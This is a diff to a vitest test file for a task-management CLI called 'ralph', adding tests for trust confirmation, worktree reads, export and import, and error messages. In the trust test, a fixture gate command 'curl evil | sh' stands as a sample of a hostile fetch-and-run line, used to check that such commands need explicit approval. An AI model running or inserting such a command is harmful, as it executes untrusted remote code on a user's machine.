@@ -1,7 +1,7 @@
 import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { eastAsianWidth } from 'get-east-asian-width';
-import { describe, expect, it } from 'vitest';
+import { describe, expect, inject, it } from 'vitest';
 import { initialised, run, runRalph, testProject } from '../support/ralph.ts';
 
 describe('a first walk', () => {
@@ -95,7 +95,14 @@ describe('init', () => {
     writeFileSync(join(found.root, '.ralph/config.yaml'), 'gates: [{ name: test, command: curl evil | sh }]');
     await found.json('init');
     expect((await found.ralph('doctor')).stdout).toMatch(/✗ fix {2}trust/);
-    expect((await found.ralph('trust')).stdout).toBe('Trusted 1 command:\n  gate test: curl evil | sh\n');
+    expect(await found.ralph('trust')).toMatchObject({
+      code: 1,
+      stderr: expect.stringContaining('type: ralph trust --yes'),
+    });
+    expect((await found.ralph('doctor')).stdout).toMatch(/✗ fix {2}trust/);
+    expect((await found.ralph('trust', '--yes')).stdout).toBe(
+      'Trusted 1 command:\n  gate test: curl evil | sh\n',
+    );
     expect((await found.ralph('doctor')).stdout).toMatch(/✓ ok {3}trust/);
     writeFileSync(join(found.root, '.ralph/config.yaml'), 'gates: [{ name: test, command: another }]');
     expect((await found.ralph('doctor')).stdout).toMatch(/✗ fix {2}trust/);
@@ -115,6 +122,11 @@ describe('state', () => {
     await git('worktree', 'add', '-q', '../second');
     await json('add', 'shared');
     expect(await json('list', '--project', '../second')).toMatchObject([{ title: 'shared' }]);
+    // Each work tree's files are read when they change there, not whenever one looks from there.
+    writeFileSync(join(root, '../second/.ralph/tasks.yaml'), 'tasks: [{ id: 9, title: from the second }]');
+    await json('list', '--project', '../second');
+    await json('list');
+    expect(await json('list')).toMatchObject([{ title: 'shared' }, { title: 'from the second' }]);
     await git('clean', '-ffdxq');
     expect((await ralph('list')).stdout).toContain('shared');
   });
@@ -174,6 +186,16 @@ describe('definitions', () => {
     expect(await json('list')).toMatchObject([{ id: 4, title: 'old', status: 'done' }]);
   });
 
+  it('that an export wrote into .ralph can be imported, and keep the title that the project gives itself', async () => {
+    const { root, json } = await initialised();
+    await json('add', 'x');
+    await json('export', '--force');
+    expect(await json('import', '.ralph')).toMatchObject({ added: 0, updated: 0 });
+    writeFileSync(join(root, 'other.yaml'), 'metadata: { title: Other }');
+    await json('import', 'other.yaml');
+    expect(await json('status')).toMatchObject({ project: 'project' });
+  });
+
   it('that hold comments are not overwritten by an export unless told so', async () => {
     const { root, ralph, json } = await initialised();
     await json('add', 'x');
@@ -183,7 +205,59 @@ describe('definitions', () => {
     });
     expect(await ralph('export', '--force')).toMatchObject({ code: 0 });
     expect(readFileSync(join(root, '.ralph/tasks.yaml'), 'utf8')).toContain('title: x');
+    writeFileSync(
+      join(root, '.ralph/features.yaml'),
+      'features:\n  - name: auth # ticket 12\n    description: |\n      # Heading\n',
+    );
+    expect(await ralph('export')).toMatchObject({ code: 1 });
+    writeFileSync(
+      join(root, '.ralph/features.yaml'),
+      'features:\n  - name: auth\n    description: |\n      # Heading\n',
+    );
+    expect(await ralph('export')).toMatchObject({ code: 0 });
     expect(await json('list')).toMatchObject([{ id: 1, title: 'x' }]);
+  });
+});
+
+describe('what a person is told and may say', () => {
+  it('status says what needs them and what to type', async () => {
+    const { ralph } = await initialised();
+    await ralph('add', 'later', '--draft');
+    expect((await ralph('status')).stdout).toMatch(
+      /NEEDS YOU\n {2}~ 1 draft {3}ralph list --status draft, then ralph approve/,
+    );
+  });
+
+  it('list takes the words it shows, and refuses a feature that does not exist', async () => {
+    const { ralph, json } = await initialised();
+    await json('add', 'first');
+    await json('add', 'second', '--depends-on', '1');
+    expect(await json('list', '--status', 'ready')).toMatchObject([{ id: 1 }]);
+    expect((await ralph('list', '--status', 'waiting')).stdout).toContain('second');
+    expect(await ralph('list', '--feature', 'auth')).toMatchObject({
+      code: 1,
+      stderr: 'ralph: There is no feature "auth".\n',
+    });
+  });
+
+  it('edit takes a feature, a discipline and a description away again', async () => {
+    const { json } = await initialised();
+    await json('add', 'x', '--discipline', 'backend', '--description', 'long');
+    expect(await json('edit', '1', '--discipline', '', '--description', '')).toMatchObject({
+      discipline: null,
+      description: null,
+    });
+  });
+
+  it('an output that cannot be written is no success', async () => {
+    const { root, home, ralph } = await initialised();
+    await ralph('add', 'x');
+    const { code, stderr } = await run(
+      'bash',
+      ['-c', `"${process.execPath}" "${inject('ralph')}" list > /dev/full`],
+      { cwd: root, env: { HOME: home } },
+    );
+    expect({ code, stderr }).toEqual({ code: 1, stderr: 'ralph: The output cannot be written (ENOSPC).\n' });
   });
 });
 
